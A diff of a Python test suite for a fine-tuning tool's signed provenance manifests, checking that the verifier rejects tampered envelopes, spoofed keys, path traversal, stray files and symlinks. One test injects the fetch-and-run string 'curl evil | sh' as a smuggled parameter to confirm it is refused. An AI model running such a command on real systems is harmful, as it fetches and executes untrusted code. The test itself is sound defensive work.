@@ -1,23 +1,25 @@
-"""Signed manifests: attest, verify, audit, show, log; every tamper case of REFERENCE section 3."""
+"""Signed manifests: attest, verify, audit, show, log; every tamper case a verifier must reject."""
 
 from __future__ import annotations
 
 import base64
 import json
 import os
-from collections.abc import Callable
+import shutil
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 
 import pytest
 from cryptography.hazmat.primitives import serialization
-from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
 
 from ftctl.canonical import canonical_json
 from ftctl.provenance import dsse
 from ftctl.provenance.keys import keyid, trusted_keys
 from ftctl.provenance.manifest import ManifestError, verify_artifacts, verify_bytes, verify_file
-from tests.conftest import LOCAL_RECIPE, REPO, RunCLI, git, write
+from tests.conftest import LOCAL_RECIPE, REPO, RunCLI, git, invoke_cli, json_object, write
 
 
 def make_run(root: Path, name: str = "run", weights: str = "weights") -> Path:
@@ -34,48 +36,90 @@ def make_run(root: Path, name: str = "run", weights: str = "weights") -> Path:
     return run
 
 
-@dataclass
+@dataclass(frozen=True)
 class Attested:
+    """A git workspace with one attested run: the manifest, its run directory and the key."""
+
     root: Path
+    home: Path  # XDG_CONFIG_HOME, where keygen wrote the private key
     manifest: Path
     run: Path
     key: Ed25519PrivateKey
 
     @property
-    def trusted(self) -> dict[str, object]:
+    def key_path(self) -> Path:
+        return self.home / "ftctl" / "keys" / "ci.key"
+
+    @property
+    def trusted(self) -> dict[str, Ed25519PublicKey]:
         return dict(trusted_keys(self.root, ["keys/*.pub"]))
 
-    def envelope(self) -> dict[str, object]:
-        return json.loads(self.manifest.read_bytes())
+    def envelope(self) -> dict[str, Any]:
+        """The manifest's envelope, parsed afresh on each call: change it freely."""
+        return json_object(self.manifest.read_bytes())
 
-    def statement(self) -> dict[str, object]:
-        return json.loads(base64.b64decode(self.envelope()["payload"]))  # type: ignore[arg-type]
+    def statement(self) -> dict[str, Any]:
+        return json_object(base64.b64decode(self.envelope()["payload"]))
 
 
-@pytest.fixture
-def attested(tmp_path: Path, run_cli: RunCLI, monkeypatch: pytest.MonkeyPatch) -> Attested:
-    root = tmp_path / "ws"
+def snapshot(directory: Path) -> dict[str, bytes]:
+    files = (p for p in directory.rglob("*") if p.is_file())
+    return {p.relative_to(directory).as_posix(): p.read_bytes() for p in files}
+
+
+@pytest.fixture(scope="module")
+def signed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attested]:
+    """One workspace locked, committed and attested once for the module. Never write to it:
+    tests that change files use ``attested`` (a copy) or copy what they change to tmp_path."""
+    base = tmp_path_factory.mktemp("signed")
+    root, home = base / "ws", base / "home"
     write(root / "models" / "tiny" / "config.json", "{}\n")
     write(root / "data" / "train.jsonl", '{"instruction": "a", "output": "b"}\n')
     write(root / "recipes" / "tiny.yaml", LOCAL_RECIPE)
     git(root, "init", "-q")
-    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home"))
-    assert run_cli("lock", cwd=root).code == 0
-    assert run_cli("keygen", "ci", cwd=root).code == 0
+    env = {"XDG_CONFIG_HOME": str(home)}
+    assert invoke_cli("lock", cwd=root, env=env).code == 0
+    assert invoke_cli("keygen", "ci", cwd=root, env=env).code == 0
     git(root, "add", "-A")
     git(root, "commit", "-qm", "recipes")
-    key_path = tmp_path / "home" / "ftctl" / "keys" / "ci.key"
-    monkeypatch.setenv("FTCTL_SIGNING_KEY", str(key_path))
+    key_path = home / "ftctl" / "keys" / "ci.key"
     run = make_run(root)
-    result = run_cli("attest", "run", "--recipe", "tiny", cwd=root)
+    signing = {**env, "FTCTL_SIGNING_KEY": str(key_path)}
+    result = invoke_cli("attest", "run", "--recipe", "tiny", cwd=root, env=signing)
     assert result.code == 0, result.err
     key = serialization.load_pem_private_key(key_path.read_bytes(), None)
     assert isinstance(key, Ed25519PrivateKey)
-    return Attested(root, root / result.out.strip(), run, key)
+    before = snapshot(root)
+    yield Attested(root, home, root / result.out.strip(), run, key)
+    assert snapshot(root) == before, "a test changed the shared signed workspace"
+
+
+@pytest.fixture
+def attested(signed: Attested, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Attested:
+    """A private copy of the signed workspace and key home, with the environment attest reads."""
+    root, home = tmp_path / "ws", tmp_path / "home"
+    shutil.copytree(signed.root, root, symlinks=True)
+    shutil.copytree(signed.home, home)
+    copy = Attested(
+        root,
+        home,
+        root / signed.manifest.relative_to(signed.root),
+        root / signed.run.relative_to(signed.root),
+        signed.key,
+    )
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
+    monkeypatch.setenv("FTCTL_SIGNING_KEY", str(copy.key_path))
+    return copy
+
+
+@pytest.fixture
+def adapter(signed: Attested, tmp_path: Path) -> Path:
+    """A copy of the signed run's adapter directory, to tamper with."""
+    return Path(shutil.copytree(signed.run / "adapter", tmp_path / "adapter", symlinks=True))
 
 
 def resign(
-    att: Attested, statement: dict[str, object] | bytes, key: Ed25519PrivateKey | None = None
+    att: Attested, statement: dict[str, Any] | bytes, key: Ed25519PrivateKey | None = None
 ) -> bytes:
     body = statement if isinstance(statement, bytes) else canonical_json(statement)
     return dsse.sign(body, key or att.key)
@@ -83,7 +127,7 @@ def resign(
 
 def rejects(att: Attested, data: bytes, fragment: str, threshold: int = 1) -> None:
     with pytest.raises(ManifestError) as info:
-        verify_bytes(data, att.trusted, Path("m.intoto.json"), threshold)  # type: ignore[arg-type]
+        verify_bytes(data, att.trusted, Path("m.intoto.json"), threshold)
     assert fragment in str(info.value), str(info.value)
 
 
@@ -108,157 +152,153 @@ def test_attest_verify_show_log_audit(attested: Attested, run_cli: RunCLI) -> No
     assert audit.lines[-1] == "1 manifest, 0 failed"
 
 
-def test_statement_shape(attested: Attested) -> None:
-    st = attested.statement()
+def test_statement_shape(signed: Attested) -> None:
+    st = signed.statement()
     assert st["_type"] == "https://in-toto.io/Statement/v1"
     assert st["predicateType"] == "https://slsa.dev/provenance/v1"
-    definition = st["predicate"]["buildDefinition"]  # type: ignore[index]
+    definition = st["predicate"]["buildDefinition"]
     assert definition["externalParameters"]["seed"] == "42"  # seeds as strings
     names = [d["name"] for d in definition["resolvedDependencies"]]
     assert names == ["base_model", "datasets[0]", "pins", "recipe_repository", "ftctl"]
-    lock = (attested.root / "lockfiles" / "tiny.lock").read_text()
+    lock = (signed.root / "lockfiles" / "tiny.lock").read_text()
     assert definition["internalParameters"]["fingerprint"] in lock
-    assert attested.envelope()["payloadType"] == "application/vnd.in-toto+json"
+    assert signed.envelope()["payloadType"] == "application/vnd.in-toto+json"
 
 
-def test_securesystemslib_accepts_ours_and_rejects_tampered(attested: Attested) -> None:
+def test_securesystemslib_accepts_ours_and_rejects_tampered(signed: Attested) -> None:
     from securesystemslib.dsse import Envelope
     from securesystemslib.exceptions import VerificationError
-    from securesystemslib.signer import SSlibKey
 
-    public = attested.key.public_key()
+    # securesystemslib.signer re-exports SSlibKey without __all__, which strict mypy refuses
+    from securesystemslib.signer import SSlibKey  # type: ignore[attr-defined]
+
+    public = signed.key.public_key()
     oracle_key = SSlibKey.from_crypto(public, keyid=keyid(public))
-    envelope = Envelope.from_dict(attested.envelope())
+    envelope = Envelope.from_dict(signed.envelope())
     assert keyid(public) in envelope.verify([oracle_key], 1)
-    tampered = attested.envelope()
-    body = base64.b64decode(tampered["payload"]).replace(b'"seed":"42"', b'"seed":"43"')  # type: ignore[arg-type]
+    tampered = signed.envelope()
+    body = base64.b64decode(tampered["payload"]).replace(b'"seed":"42"', b'"seed":"43"')
     tampered["payload"] = base64.b64encode(body).decode()
     with pytest.raises(VerificationError):
         Envelope.from_dict(tampered).verify([oracle_key], 1)
 
 
-# --- the reject list of REFERENCE section 3, one test each --------------------------
+# --- what a verifier must reject, one test each --------------------------
 
 
-def mutate_envelope(att: Attested, change: Callable[[dict[str, object]], None]) -> bytes:
+def mutate_envelope(att: Attested, change: Callable[[dict[str, Any]], object]) -> bytes:
     envelope = att.envelope()
     change(envelope)
     return json.dumps(envelope).encode()
 
 
-def test_reject_other_payload_type(attested: Attested) -> None:
+def test_reject_other_payload_type(signed: Attested) -> None:
     rejects(
-        attested,
-        dsse.sign(canonical_json(attested.statement()), attested.key, "application/json"),
+        signed,
+        dsse.sign(canonical_json(signed.statement()), signed.key, "application/json"),
         "payloadType is 'application/json'",
     )
 
 
-def test_reject_payload_type_changed_after_signing(attested: Attested) -> None:
+def test_reject_payload_type_changed_after_signing(signed: Attested) -> None:
     data = mutate_envelope(
-        attested, lambda e: e.update(payloadType="application/vnd.in-toto+json; x=1")
+        signed, lambda e: e.update(payloadType="application/vnd.in-toto+json; x=1")
     )
-    rejects(attested, data, "payloadType")
+    rejects(signed, data, "payloadType")
 
 
-def test_reject_missing_envelope_field(attested: Attested) -> None:
-    rejects(
-        attested, mutate_envelope(attested, lambda e: e.pop("signatures")), "not a DSSE envelope"
-    )
+def test_reject_missing_envelope_field(signed: Attested) -> None:
+    rejects(signed, mutate_envelope(signed, lambda e: e.pop("signatures")), "not a DSSE envelope")
 
 
-def test_reject_missing_statement_field(attested: Attested) -> None:
-    st = attested.statement()
+def test_reject_missing_statement_field(signed: Attested) -> None:
+    st = signed.statement()
     del st["subject"]
-    rejects(attested, resign(attested, st), "subject")
+    rejects(signed, resign(signed, st), "subject")
 
 
-def test_reject_altered_payload(attested: Attested) -> None:
-    def alter(e: dict[str, object]) -> None:
-        body = base64.b64decode(e["payload"]).replace(b'"seed":"42"', b'"seed":"41"')  # type: ignore[arg-type]
+def test_reject_altered_payload(signed: Attested) -> None:
+    def alter(e: dict[str, Any]) -> None:
+        body = base64.b64decode(e["payload"]).replace(b'"seed":"42"', b'"seed":"41"')
         e["payload"] = base64.b64encode(body).decode()
 
-    rejects(attested, mutate_envelope(attested, alter), "no signature by a trusted key")
+    rejects(signed, mutate_envelope(signed, alter), "no signature by a trusted key")
 
 
-def test_reject_truncated_payload(attested: Attested) -> None:
-    def cut(e: dict[str, object]) -> None:
-        e["payload"] = base64.b64encode(base64.b64decode(e["payload"])[:-10]).decode()  # type: ignore[arg-type]
+def test_reject_truncated_payload(signed: Attested) -> None:
+    def cut(e: dict[str, Any]) -> None:
+        e["payload"] = base64.b64encode(base64.b64decode(e["payload"])[:-10]).decode()
 
-    rejects(attested, mutate_envelope(attested, cut), "no signature by a trusted key")
-
-
-def test_reject_extended_payload(attested: Attested) -> None:
-    def extend(e: dict[str, object]) -> None:
-        e["payload"] = base64.b64encode(base64.b64decode(e["payload"]) + b" ").decode()  # type: ignore[arg-type]
-
-    rejects(attested, mutate_envelope(attested, extend), "no signature by a trusted key")
+    rejects(signed, mutate_envelope(signed, cut), "no signature by a trusted key")
 
 
-def test_reject_invalid_base64(attested: Attested) -> None:
+def test_reject_extended_payload(signed: Attested) -> None:
+    def extend(e: dict[str, Any]) -> None:
+        e["payload"] = base64.b64encode(base64.b64decode(e["payload"]) + b" ").decode()
+
+    rejects(signed, mutate_envelope(signed, extend), "no signature by a trusted key")
+
+
+def test_reject_invalid_base64(signed: Attested) -> None:
     rejects(
-        attested,
-        mutate_envelope(attested, lambda e: e.update(payload="not*base64")),
+        signed,
+        mutate_envelope(signed, lambda e: e.update(payload="not*base64")),
         "not valid base64",
     )
 
 
-def test_reject_untrusted_key(attested: Attested) -> None:
+def test_reject_untrusted_key(signed: Attested) -> None:
     rejects(
-        attested,
-        resign(attested, attested.statement(), Ed25519PrivateKey.generate()),
+        signed,
+        resign(signed, signed.statement(), Ed25519PrivateKey.generate()),
         "no signature by a trusted key",
     )
 
 
-def test_reject_spoofed_keyid(attested: Attested) -> None:
-    data = json.loads(resign(attested, attested.statement(), Ed25519PrivateKey.generate()))
-    data["signatures"][0]["keyid"] = keyid(
-        attested.key.public_key()
-    )  # claims to be the trusted key
-    rejects(attested, json.dumps(data).encode(), "no signature by a trusted key")
+def test_reject_spoofed_keyid(signed: Attested) -> None:
+    data = json.loads(resign(signed, signed.statement(), Ed25519PrivateKey.generate()))
+    data["signatures"][0]["keyid"] = keyid(signed.key.public_key())  # claims to be the trusted key
+    rejects(signed, json.dumps(data).encode(), "no signature by a trusted key")
 
 
-def test_reject_same_key_counted_twice(attested: Attested) -> None:
-    data = json.loads(resign(attested, attested.statement()))
+def test_reject_same_key_counted_twice(signed: Attested) -> None:
+    data = json.loads(resign(signed, signed.statement()))
     data["signatures"] = data["signatures"] * 2
-    rejects(attested, json.dumps(data).encode(), "1 trusted signature(s), 2 required", threshold=2)
+    rejects(signed, json.dumps(data).encode(), "1 trusted signature(s), 2 required", threshold=2)
 
 
-def test_reject_no_signatures(attested: Attested) -> None:
-    rejects(
-        attested, mutate_envelope(attested, lambda e: e.update(signatures=[])), "has no signatures"
-    )
+def test_reject_no_signatures(signed: Attested) -> None:
+    rejects(signed, mutate_envelope(signed, lambda e: e.update(signatures=[])), "has no signatures")
 
 
-def test_reject_wrong_statement_type(attested: Attested) -> None:
-    st = attested.statement()
+def test_reject_wrong_statement_type(signed: Attested) -> None:
+    st = signed.statement()
     st["_type"] = "https://in-toto.io/Statement/v0.1"
-    rejects(attested, resign(attested, st), "_type")
+    rejects(signed, resign(signed, st), "_type")
 
 
-def test_reject_wrong_predicate_type(attested: Attested) -> None:
-    st = attested.statement()
+def test_reject_wrong_predicate_type(signed: Attested) -> None:
+    st = signed.statement()
     st["predicateType"] = "https://slsa.dev/provenance/v0.2"
-    rejects(attested, resign(attested, st), "predicateType")
+    rejects(signed, resign(signed, st), "predicateType")
 
 
-def test_reject_duplicate_keys_in_signed_payload(attested: Attested) -> None:
-    body = canonical_json(attested.statement())
+def test_reject_duplicate_keys_in_signed_payload(signed: Attested) -> None:
+    body = canonical_json(signed.statement())
     doubled = body.replace(b'"_type":', b'"_type":"x","_type":', 1)
-    rejects(attested, resign(attested, doubled), "duplicate key '_type'")
+    rejects(signed, resign(signed, doubled), "duplicate key '_type'")
 
 
-def test_reject_duplicate_keys_in_envelope(attested: Attested) -> None:
-    data = attested.manifest.read_bytes().replace(
+def test_reject_duplicate_keys_in_envelope(signed: Attested) -> None:
+    data = signed.manifest.read_bytes().replace(
         b'"payloadType":', b'"payloadType":"x","payloadType":', 1
     )
-    rejects(attested, data, "duplicate key 'payloadType'")
+    rejects(signed, data, "duplicate key 'payloadType'")
 
 
-def test_reject_nan(attested: Attested) -> None:
-    body = canonical_json(attested.statement()).replace(b'"seed":"42"', b'"seed":NaN', 1)
-    rejects(attested, resign(attested, body), "NaN is not allowed")
+def test_reject_nan(signed: Attested) -> None:
+    body = canonical_json(signed.statement()).replace(b'"seed":"42"', b'"seed":NaN', 1)
+    rejects(signed, resign(signed, body), "NaN is not allowed")
 
 
 @pytest.mark.parametrize(
@@ -272,102 +312,101 @@ def test_reject_nan(attested: Attested) -> None:
     ],
     ids=["absolute", "dotdot", "backslash", "nul", "drive"],
 )
-def test_reject_bad_subject_names(attested: Attested, name: str, fragment: str) -> None:
-    st = attested.statement()
-    st["subject"][0]["name"] = name  # type: ignore[index]
-    rejects(attested, resign(attested, st), fragment)
+def test_reject_bad_subject_names(signed: Attested, name: str, fragment: str) -> None:
+    st = signed.statement()
+    st["subject"][0]["name"] = name
+    rejects(signed, resign(signed, st), fragment)
 
 
-def test_reject_repeated_subject(attested: Attested) -> None:
-    st = attested.statement()
-    st["subject"] = st["subject"] * 2  # type: ignore[operator]
-    rejects(attested, resign(attested, st), "subject names repeat")
+def test_reject_repeated_subject(signed: Attested) -> None:
+    st = signed.statement()
+    st["subject"] = st["subject"] * 2
+    rejects(signed, resign(signed, st), "subject names repeat")
 
 
-def test_reject_non_sha256_digest(attested: Attested) -> None:
-    st = attested.statement()
-    st["subject"][0]["digest"] = {"sha1": "0" * 40}  # type: ignore[index]
-    rejects(attested, resign(attested, st), "exactly {sha256")
+def test_reject_non_sha256_digest(signed: Attested) -> None:
+    st = signed.statement()
+    st["subject"][0]["digest"] = {"sha1": "0" * 40}
+    rejects(signed, resign(signed, st), "exactly {sha256")
 
 
-def test_reject_short_base_model_commit(attested: Attested) -> None:
-    st = attested.statement()
-    deps = st["predicate"]["buildDefinition"]["resolvedDependencies"]  # type: ignore[index]
+def test_reject_short_base_model_commit(signed: Attested) -> None:
+    st = signed.statement()
+    deps = st["predicate"]["buildDefinition"]["resolvedDependencies"]
     deps[0] = {
         "name": "base_model",
         "uri": "pkg:huggingface/org/m@main",
         "digest": {"gitCommit": "main"},
     }
-    rejects(attested, resign(attested, st), "is not a full 40-hex commit")
+    rejects(signed, resign(signed, st), "is not a full 40-hex commit")
 
 
-def test_reject_hub_dependency_without_commit(attested: Attested) -> None:
-    st = attested.statement()
-    deps = st["predicate"]["buildDefinition"]["resolvedDependencies"]  # type: ignore[index]
+def test_reject_hub_dependency_without_commit(signed: Attested) -> None:
+    st = signed.statement()
+    deps = st["predicate"]["buildDefinition"]["resolvedDependencies"]
     deps[0] = {
         "name": "base_model",
         "uri": "pkg:huggingface/org/m@main",
         "digest": {"sha256": "0" * 64},
     }
-    rejects(attested, resign(attested, st), "needs a full gitCommit digest")
+    rejects(signed, resign(signed, st), "needs a full gitCommit digest")
 
 
-def test_reject_unexpected_external_parameters(attested: Attested) -> None:
-    st = attested.statement()
-    st["predicate"]["buildDefinition"]["externalParameters"]["command"] = "curl evil | sh"  # type: ignore[index]
-    rejects(attested, resign(attested, st), "externalParameters.command")
+def test_reject_unexpected_external_parameters(signed: Attested) -> None:
+    st = signed.statement()
+    st["predicate"]["buildDefinition"]["externalParameters"]["command"] = "curl evil | sh"
+    rejects(signed, resign(signed, st), "externalParameters.command")
 
 
-def artifacts_reject(att: Attested, fragment: str) -> None:
-    manifest = verify_file(att.manifest, att.trusted)  # type: ignore[arg-type]
+def artifacts_reject(att: Attested, adapter: Path, fragment: str) -> None:
+    manifest = verify_file(att.manifest, att.trusted)
     with pytest.raises(ManifestError) as info:
-        verify_artifacts(manifest, att.run / "adapter")
+        verify_artifacts(manifest, adapter)
     assert fragment in str(info.value)
 
 
-def test_reject_file_content_differs(attested: Attested) -> None:
-    (attested.run / "adapter" / "adapter_model.safetensors").write_text("other weights")
-    artifacts_reject(attested, "adapter_model.safetensors differs from the recorded digest")
+def test_reject_file_content_differs(signed: Attested, adapter: Path) -> None:
+    (adapter / "adapter_model.safetensors").write_text("other weights")
+    artifacts_reject(signed, adapter, "adapter_model.safetensors differs from the recorded digest")
 
 
-def test_reject_missing_file(attested: Attested) -> None:
-    (attested.run / "adapter" / "adapter_config.json").unlink()
-    artifacts_reject(attested, "adapter_config.json is missing")
+def test_reject_missing_file(signed: Attested, adapter: Path) -> None:
+    (adapter / "adapter_config.json").unlink()
+    artifacts_reject(signed, adapter, "adapter_config.json is missing")
 
 
-def test_reject_extra_file(attested: Attested) -> None:
-    (attested.run / "adapter" / "optimizer.pkl").write_bytes(b"\x80\x04evil")
-    artifacts_reject(attested, "optimizer.pkl is not in the manifest")
+def test_reject_extra_file(signed: Attested, adapter: Path) -> None:
+    (adapter / "optimizer.pkl").write_bytes(b"\x80\x04evil")
+    artifacts_reject(signed, adapter, "optimizer.pkl is not in the manifest")
 
 
-def test_reject_symlink_leaving_the_directory(attested: Attested, tmp_path: Path) -> None:
+def test_reject_symlink_leaving_the_directory(
+    signed: Attested, adapter: Path, tmp_path: Path
+) -> None:
     (tmp_path / "outside.bin").write_text("x")
-    (attested.run / "adapter" / "link.bin").symlink_to(tmp_path / "outside.bin")
-    artifacts_reject(attested, "is a symlink to")
+    (adapter / "link.bin").symlink_to(tmp_path / "outside.bin")
+    artifacts_reject(signed, adapter, "is a symlink to")
 
 
-def test_reject_files_from_two_runs(attested: Attested) -> None:
-    other = make_run(attested.root, "other", weights="other weights")
-    (attested.run / "adapter" / "adapter_model.safetensors").write_bytes(
+def test_reject_files_from_two_runs(signed: Attested, adapter: Path, tmp_path: Path) -> None:
+    other = make_run(tmp_path, "other", weights="other weights")
+    (adapter / "adapter_model.safetensors").write_bytes(
         (other / "adapter" / "adapter_model.safetensors").read_bytes()
     )
-    artifacts_reject(attested, "adapter_model.safetensors differs")
+    artifacts_reject(signed, adapter, "adapter_model.safetensors differs")
 
 
-def test_reject_provenance_copy_of_another_run(attested: Attested) -> None:
-    copy = attested.run / "adapter" / ".ftctl" / "provenance.intoto.json"
-    st = attested.statement()
-    st["predicate"]["buildDefinition"]["externalParameters"]["seed"] = "7"  # type: ignore[index]
-    write(copy, resign(attested, st).decode())
-    artifacts_reject(attested, "records another run")
+def test_reject_provenance_copy_of_another_run(signed: Attested, adapter: Path) -> None:
+    copy = adapter / ".ftctl" / "provenance.intoto.json"
+    st = signed.statement()
+    st["predicate"]["buildDefinition"]["externalParameters"]["seed"] = "7"
+    write(copy, resign(signed, st).decode())
+    artifacts_reject(signed, adapter, "records another run")
 
 
-def test_registry_copy_of_the_same_run_is_accepted(attested: Attested) -> None:
-    write(
-        attested.run / "adapter" / ".ftctl" / "provenance.intoto.json",
-        attested.manifest.read_text(),
-    )
-    verify_artifacts(verify_file(attested.manifest, attested.trusted), attested.run / "adapter")  # type: ignore[arg-type]
+def test_registry_copy_of_the_same_run_is_accepted(signed: Attested, adapter: Path) -> None:
+    write(adapter / ".ftctl" / "provenance.intoto.json", signed.manifest.read_text())
+    verify_artifacts(verify_file(signed.manifest, signed.trusted), adapter)
 
 
 def test_audit_rejects_recipe_that_differs_from_the_record(
@@ -378,7 +417,7 @@ def test_audit_rejects_recipe_that_differs_from_the_record(
     st = attested.statement()
     st["predicate"]["buildDefinition"]["externalParameters"]["recipe"]["digest"]["sha256"] = (
         "0" * 64
-    )  # type: ignore[index]
+    )
     attested.manifest.write_bytes(resign(attested, st))
     result = run_cli("audit", cwd=attested.root)
     assert result.code == 1
@@ -402,11 +441,11 @@ def test_audit_fails_uncommitted_attestation(attested: Attested, run_cli: RunCLI
 def test_tampered_manifest_is_not_state(attested: Attested, run_cli: RunCLI) -> None:
     from ftctl.provenance.records import read_records
 
-    good = read_records(attested.root, lambda: attested.trusted)["tiny"]  # type: ignore[arg-type,return-value]
+    good = read_records(attested.root, lambda: attested.trusted)["tiny"]
     assert good.current is not None and not good.rejected
     data = attested.manifest.read_bytes().replace(b'"sig":"', b'"sig":"AAAA', 1)
     attested.manifest.write_bytes(data)
-    state = read_records(attested.root, lambda: attested.trusted)["tiny"]  # type: ignore[arg-type,return-value]
+    state = read_records(attested.root, lambda: attested.trusted)["tiny"]
     assert state.current is None
     assert state.rejected and "REJECTED" in run_cli("log", "tiny", cwd=attested.root).out
 
@@ -431,10 +470,9 @@ def test_keygen_refuses_the_repository(tmp_path: Path, run_cli: RunCLI) -> None:
     )
 
 
-def test_keygen_private_key_mode(attested: Attested, tmp_path: Path) -> None:
-    key = tmp_path / "home" / "ftctl" / "keys" / "ci.key"
-    assert key.stat().st_mode & 0o777 == 0o600
-    assert (attested.root / "keys" / "ci.pub").read_text().startswith("-----BEGIN PUBLIC KEY-----")
+def test_keygen_private_key_mode(signed: Attested) -> None:
+    assert signed.key_path.stat().st_mode & 0o777 == 0o600
+    assert (signed.root / "keys" / "ci.pub").read_text().startswith("-----BEGIN PUBLIC KEY-----")
 
 
 def test_passphrase_protected_key(
@@ -515,11 +553,9 @@ def test_secrets_never_leak(
         assert secret_key_body not in text and "PRIVATE KEY" not in text
 
 
-def test_schema_accepts_an_attested_statement(attested: Attested) -> None:
-    import jsonschema
+def test_schema_accepts_an_attested_statement(signed: Attested) -> None:
+    import jsonschema  # type: ignore[import-untyped]  # jsonschema ships no type hints
 
-    schema = json.loads(
-        (REPO / "docs" / "provenance.schema.json").read_text()
-    )
-    statement = json.loads(base64.b64decode(attested.envelope()["payload"]))  # type: ignore[arg-type]
+    schema = json.loads((REPO / "docs" / "provenance.schema.json").read_text())
+    statement = json.loads(base64.b64decode(signed.envelope()["payload"]))
     jsonschema.Draft202012Validator(schema).validate(statement)
